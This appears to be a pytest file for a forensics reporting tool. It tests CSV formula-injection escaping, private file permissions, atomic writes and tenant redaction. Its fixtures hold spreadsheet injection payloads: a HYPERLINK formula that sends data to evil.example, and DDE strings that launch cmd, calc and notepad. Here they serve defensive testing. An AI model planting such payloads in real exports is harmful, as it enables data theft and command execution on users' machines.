"""Outputs hold customer data: no spreadsheet formula runs from them, nobody else can read them,
and a file is whole or absent (never cut), whatever stops the run."""

from __future__ import annotations

import csv
import errno
import os
import stat
import sys
from contextlib import contextmanager
from pathlib import Path

import pytest
from fixtures.findings.builder import AFFECTED, EXPOSURES, OUTPUT_FILES, REQUESTS, build
from typer.testing import CliRunner

from forensics.cli import app
from forensics.errors import ForensicsError
from forensics.report import write_report
from forensics.report.outputs import csv_cell

# What a spreadsheet would run: a hyperlink that sends data out, DDE, and the other starts.
HOSTILE_TENANTS = {
    "acct_alpha": '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "acct_beta": "@SUM(1+1)*cmd|' /C calc'!A0",
    "acct_gamma": "-2+3+cmd|' /C calc'!A0",
    "acct_delta": "\t=1+1",
}
HOSTILE_REQUEST = ("r-a1", "+cmd|' /C notepad'!A0")


def _hostile(value: str) -> str:
    value = HOSTILE_TENANTS.get(value, value)
    return HOSTILE_REQUEST[1] if value == HOSTILE_REQUEST[0] else value


@contextmanager
def umask(mask: int):
    old = os.umask(mask)
    try:
        yield
    finally:
        os.umask(old)


def mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


# --- spreadsheet formulas ------------------------------------------------------------------------


def test_no_csv_cell_starts_a_formula(tmp_path):
    requests = [(_hostile(r[0]), _hostile(r[1]), *r[2:]) for r in REQUESTS]
    affected = [(_hostile(a[0]), *a[1:]) for a in AFFECTED]
    exposures = [(_hostile(e[0]), _hostile(e[1]), *e[2:]) for e in EXPOSURES]
    case, con = build(tmp_path / "case", requests=requests, affected=affected, exposures=exposures)
    # A negative number stays a number.
    con.execute("UPDATE findings_exploitation SET score = -0.5 WHERE tenant_id = 'acct_researcher'")
    out = tmp_path / "out"
    result = write_report(con, case, out)
    files = [out / n for n in OUTPUT_FILES if n.endswith(".csv")]
    files += [p for p in result.notices if p.suffix == ".csv"]
    assert {p.name for p in files} >= {"affected_responses.csv", "exposures.csv", "review.csv"}
    cells: dict[str, list[str]] = {}
    for path in files:
        with path.open(newline="", encoding="utf-8") as fh:
            for row in csv.reader(fh):
                for cell in row:
                    cells.setdefault(cell, []).append(path.name)
    risky = [
        (c, names)
        for c, names in cells.items()
        if c[:1] in ("=", "+", "-", "@", "\t", "\r") and not _is_number(c)
    ]
    assert risky == []
    alpha = "'" + HOSTILE_TENANTS["acct_alpha"]
    assert {"affected_responses.csv", "exposures.csv", "notifications.csv"} <= set(cells[alpha])
    assert {"exposures.csv", "notifications.csv"} <= set(cells["'" + HOSTILE_TENANTS["acct_beta"]])
    assert "review.csv" in cells["'" + HOSTILE_TENANTS["acct_gamma"]]
    request = "'" + HOSTILE_REQUEST[1]
    assert {"affected_responses.csv", "exposures.csv"} <= set(cells[request])
    # The letter's CSV of the tenant whose request id looks like a formula.
    notice_csvs = [n for n in cells[request] if n not in OUTPUT_FILES]
    assert len(notice_csvs) == 1
    assert "exploitation.csv" in cells["-0.5"]


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize(
    "value, cell",
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-1+1", "'-1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("acct=1", "acct=1"),
        ("-5", "-5"),
        ("+5.5", "+5.5"),
        ("-1e3", "-1e3"),
        (-5, -5),
        (-0.25, -0.25),
        (None, ""),
    ],
)
def test_csv_cells(value, cell):
    assert csv_cell(value) == cell


# --- permissions ------------------------------------------------------------------------------


def test_report_files_are_private_whatever_the_umask(tmp_path):
    case, con = build(tmp_path / "case")
    out = tmp_path / "new" / "out"
    with umask(0o022):
        result = write_report(con, case, out)
    assert mode(tmp_path / "new") == mode(out) == mode(out / "notices") == 0o700
    assert result.notices
    assert {mode(p) for p in result.files} == {0o600}


def test_a_stricter_umask_and_an_existing_folder_are_respected(tmp_path):
    case, con = build(tmp_path / "case")
    out = tmp_path / "out"
    (out / "notices").mkdir(parents=True)
    os.chmod(out, 0o755)
    # What a killed run leaves behind goes; the folder, the user's, keeps its mode.
    (out / ".report.html.abc123.partial").write_text("<html><body>half")
    (out / "notices" / ".acct_alpha.md.xyz.partial").write_text("Dear")
    with umask(0o277):
        result = write_report(con, case, out)
    assert {mode(p) for p in result.files} == {0o400}
    assert mode(out) == 0o755
    assert list(out.rglob("*.partial")) == []


def test_the_command_line_writes_everything_private(tiny_reference):
    # The shared run of the tiny case ran under umask 022 (see conftest).
    folder = tiny_reference.parent
    assert mode(folder / "case.duckdb") == 0o600
    assert mode(folder / "report") == mode(folder / "report" / "notices") == 0o700
    files = [p for p in (folder / "report").rglob("*") if p.is_file()]
    assert len(files) > 10 and {mode(p) for p in files} == {0o600}


# --- complete or absent ---------------------------------------------------------------------------


def test_a_full_disk_is_one_line_and_leaves_no_cut_file(tmp_path, monkeypatch):
    case, con = build(tmp_path / "case")
    con.close()
    out = tmp_path / "case" / "report"
    first = CliRunner().invoke(app, ["report", str(case.path)])
    assert first.exit_code == 0, first.output
    before = {p.name: p.read_bytes() for p in out.iterdir() if p.is_file()}

    import forensics.files

    real_fsync = os.fsync

    def full_disk(fd):
        if os.readlink(f"/proc/self/fd/{fd}").split("/")[-1].startswith(".report.md."):
            raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))
        real_fsync(fd)

    monkeypatch.setattr(forensics.files.os, "fsync", full_disk)
    again = CliRunner().invoke(app, ["report", str(case.path), "--as-of", "2026-09-05T00:00:00Z"])
    assert again.exit_code == 1
    assert again.output == (
        f"Error: {out / 'report.md'}: cannot write the file (No space left on device)\n"
    )
    # report.html was rewritten whole; report.md is the earlier one, whole; the manifest is gone,
    # so the folder does not pass for a complete report; nothing temporary is left.
    assert "2026-09-05" in (out / "report.html").read_text()
    assert (out / "report.md").read_bytes() == before["report.md"]
    assert not (out / "manifest.json").exists()
    assert sorted(p.name for p in out.iterdir() if p.name.startswith(".")) == []


def test_an_output_folder_that_cannot_be_made_is_one_line(tmp_path):
    case, con = build(tmp_path / "case")
    con.close()
    (tmp_path / "taken").write_text("a file, not a folder")
    result = CliRunner().invoke(app, ["report", str(case.path), "--out", str(tmp_path / "taken/r")])
    assert result.exit_code == 1
    assert result.output == (
        f"Error: {tmp_path / 'taken'}: cannot create the folder (a file has its name)\n"
    )


def test_write_atomic_keeps_the_old_file_when_writing_fails(tmp_path, monkeypatch):
    from forensics import files

    target = tmp_path / "x.csv"
    target.write_text("old\n")

    def broken(fd):
        raise OSError(errno.EIO, os.strerror(errno.EIO))

    monkeypatch.setattr(files.os, "fsync", broken)
    with pytest.raises(ForensicsError) as err:
        files.write_atomic(target, b"new\n")
    assert str(err.value) == f"{target}: cannot write the file (Input/output error)"
    assert target.read_text() == "old\n"
    assert [p.name for p in tmp_path.iterdir()] == ["x.csv"]


def test_batched_writes_flush_once_before_any_file_takes_its_name(tmp_path, monkeypatch):
    from forensics import files

    seen = []

    def flush(folder):
        seen.append((folder, sorted(p.name for p in tmp_path.iterdir())))
        return True

    monkeypatch.setattr(files, "sync_filesystem", flush)
    with files.BatchedWrites() as writes:
        for i in range(3):
            writes.write(tmp_path / f"n{i}.md", f"notice {i}\n".encode())
    [(folder, names_at_flush)] = seen
    assert folder == tmp_path
    # At the flush every file is still under its temporary name.
    assert len(names_at_flush) == 3 and all(n.endswith(".partial") for n in names_at_flush)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["n0.md", "n1.md", "n2.md"]
    assert (tmp_path / "n2.md").read_bytes() == b"notice 2\n"


def test_batched_writes_that_cannot_flush_leave_no_file(tmp_path, monkeypatch):
    from forensics import files

    def broken(folder):
        raise OSError(errno.EIO, os.strerror(errno.EIO))

    monkeypatch.setattr(files, "sync_filesystem", broken)
    with pytest.raises(ForensicsError) as err, files.BatchedWrites() as writes:
        for i in range(6):
            writes.write(tmp_path / f"n{i}.md", b"notice\n")
    assert str(err.value) == f"{tmp_path}: cannot write the files (Input/output error)"
    assert list(tmp_path.iterdir()) == []


def test_batched_writes_without_syncfs_flush_each_file_and_name_the_one_that_fails(
    tmp_path, monkeypatch
):
    from forensics import files

    real_fsync = os.fsync
    flushed = []

    def full_disk_for_one(fd):
        name = os.readlink(f"/proc/self/fd/{fd}").split("/")[-1]
        if name.startswith(".n3.md."):
            raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))
        flushed.append(name)
        real_fsync(fd)

    monkeypatch.setattr(files, "sync_filesystem", lambda folder: False)
    monkeypatch.setattr(files.os, "fsync", full_disk_for_one)
    with pytest.raises(ForensicsError) as err, files.BatchedWrites() as writes:
        for i in range(6):
            writes.write(tmp_path / f"n{i}.md", b"notice\n")
    failing = tmp_path / "n3.md"
    assert str(err.value) == f"{failing}: cannot write the file (No space left on device)"
    assert [n.split(".")[1] for n in flushed] == ["n0", "n1", "n2"]
    # Nothing is renamed before every file is on disk: the batch is absent, not cut.
    assert list(tmp_path.iterdir()) == []


def test_batched_writes_stopped_by_the_caller_leave_no_file(tmp_path):
    from forensics import files

    with pytest.raises(RuntimeError), files.BatchedWrites() as writes:
        writes.write(tmp_path / "n0.md", b"notice\n")
        raise RuntimeError("the next notice failed to render")
    assert list(tmp_path.iterdir()) == []


def test_sync_filesystem_flushes_or_says_it_cannot(tmp_path):
    from forensics import files

    # Linux has syncfs; elsewhere the batch falls back to one fsync per file.
    assert files.sync_filesystem(tmp_path) is sys.platform.startswith("linux")
    with pytest.raises(OSError):
        files.sync_filesystem(tmp_path / "missing")


# --- the large CSVs, written by the database ----------------------------------------------------

TRICKY_TEXT = [
    "=1+2",
    "-1",
    "+3.5e2",
    "-abc",
    "@x",
    "\tx",
    "\rx",
    "a\rb",
    "a\nb",
    'q"q',
    "a,b",
    "",
    " x ",
    "é,ü",
    None,
    "'",
    "1e5",
    "-.5",
    "--1",
    "a\r\nb",
    '"',
    ",",
]


def _sql_and_python_csv(rows):
    import duckdb

    from forensics.report.csvsql import csv_chunks
    from forensics.report.outputs import _csv

    con = duckdb.connect()
    con.execute("SET TimeZone = 'UTC'")
    con.execute("CREATE TABLE t (k INTEGER, s VARCHAR, n BIGINT, ts TIMESTAMPTZ)")
    con.executemany("INSERT INTO t VALUES (?, ?, ?, ?)", rows)
    columns = [("s", "text"), ("n", "int"), ("ts", "time")]
    by_sql = "".join(csv_chunks(con, columns, "SELECT * FROM t", "q.k DESC", every=3))
    ordered = sorted(rows, key=lambda r: -r[0])
    by_python = _csv(("s", "n", "ts"), [{"s": r[1], "n": r[2], "ts": r[3]} for r in ordered])
    return by_sql, by_python


def test_database_csv_lines_are_the_csv_modules():
    from datetime import UTC, datetime

    times = [datetime(2026, 9, 8, 14, 2, 0, us, tzinfo=UTC) for us in (0, 250000, 780860, 1000, 1)]
    rows = [
        (i, text, None if i % 4 == 0 else (i - 7) * 1000, None if i % 6 == 5 else times[i % 5])
        for i, text in enumerate(TRICKY_TEXT)
    ]
    by_sql, by_python = _sql_and_python_csv(rows)
    assert by_sql == by_python
    # Guarded, quoted and numeric cells, as a spreadsheet needs them.
    assert "'=1+2," in by_sql and '"a,b"' in by_sql and '"q""q"' in by_sql
    assert "\n-1," in by_sql and "2026-09-08T14:02:00.780860Z" in by_sql


def test_a_line_made_by_the_database_is_the_csv_modules_row():
    # The notices' CSVs take each row's line from their queries (csvsql.line_sql): the same
    # bytes as the csv module's row of the same values, text, empty and number cells alike.
    import duckdb

    from forensics.report.csvsql import line_sql
    from forensics.report.outputs import _csv

    con = duckdb.connect()
    con.execute("CREATE TABLE t (k INTEGER, s VARCHAR, n BIGINT)")
    rows = [(i, text, None if i % 3 == 0 else i - 5) for i, text in enumerate(TRICKY_TEXT)]
    con.executemany("INSERT INTO t VALUES (?, ?, ?)", rows)
    cells = [("'source'", "text"), ("q.s", "text"), ("NULL", "int"), ("q.n", "int")]
    sql = f"SELECT {line_sql(cells)} FROM t q ORDER BY k"
    by_sql = "".join(r[0] for r in con.execute(sql).fetchall())
    by_python = _csv(
        ("role", "s", "gap", "n"),
        [{"role": "source", "s": s, "gap": None, "n": n} for _, s, n in rows],
    )
    assert by_sql == by_python.split("\n", 1)[1]
    assert "source,'=1+2,," in by_sql and 'source,"a,b",,' in by_sql


def test_iso_sql_is_iso():
    from datetime import UTC, datetime, timedelta

    import duckdb

    from forensics.report.csvsql import iso_sql
    from forensics.report.data import iso

    con = duckdb.connect()
    con.execute("SET TimeZone = 'UTC'")
    base = datetime(2026, 8, 31, 23, 59, 59, tzinfo=UTC)
    values = [
        base + timedelta(microseconds=us) for us in (0, 1, 999, 1000, 1100, 123400, 999000, 999999)
    ]
    values.append(datetime(2001, 1, 1, tzinfo=UTC))
    for value in [*values, None]:
        assert con.execute(f"SELECT {iso_sql('$1::TIMESTAMPTZ')}", [value]).fetchone()[0] == iso(
            value
        )


def test_database_csv_redacts_tenant_columns_and_keeps_order():
    import duckdb

    from forensics.report.csvsql import csv_chunks
    from forensics.report.redact import Redactor, pseudonym

    con = duckdb.connect()
    con.execute(
        "CREATE TABLE e AS SELECT * FROM (VALUES ('r2', 'acct_b', 'acct_a'), "
        "('r1', 'acct_a', NULL), ('r3', 'acct_b', 'acct_b')) t(request_id, recipient, source)"
    )
    columns = [("request_id", "text"), ("recipient", "tenant"), ("source", "tenant")]
    key = b"k"
    red = Redactor(["acct_a", "acct_b"], key)
    text = "".join(csv_chunks(con, columns, "SELECT * FROM e", "q.recipient, q.request_id", red))
    a, b = pseudonym("acct_a", key), pseudonym("acct_b", key)
    assert text == f"request_id,recipient,source\nr1,{a},\nr2,{b},{a}\nr3,{b},{b}\n"
    assert "acct_" not in text
    plain = "".join(csv_chunks(con, columns, "SELECT * FROM e", "q.request_id"))
    assert plain.splitlines()[1:] == ["r1,acct_a,", "r2,acct_b,acct_a", "r3,acct_b,acct_b"]


def test_database_csv_redacts_one_tenant_column_without_repeating_lines():
    # One tenant column, each tenant on several rows: the pseudonym table must hold each
    # tenant once, or the join repeats every line (as affected_responses.csv once did).
    import duckdb

    from forensics.report.csvsql import csv_chunks
    from forensics.report.redact import Redactor, pseudonym

    con = duckdb.connect()
    con.execute(
        "CREATE TABLE a AS SELECT 'r' || i AS request_id, "
        "CASE WHEN i % 2 = 0 THEN 'acct_a' ELSE 'acct_b' END AS tenant_id FROM range(6) t(i)"
    )
    columns = [("request_id", "text"), ("tenant_id", "tenant")]
    key = b"k"
    red = Redactor(["acct_a", "acct_b"], key)
    lines = "".join(csv_chunks(con, columns, "SELECT * FROM a", "q.request_id", red)).splitlines()
    a, b = pseudonym("acct_a", key), pseudonym("acct_b", key)
    assert lines == ["request_id,tenant_id"] + [f"r{i},{a if i % 2 == 0 else b}" for i in range(6)]
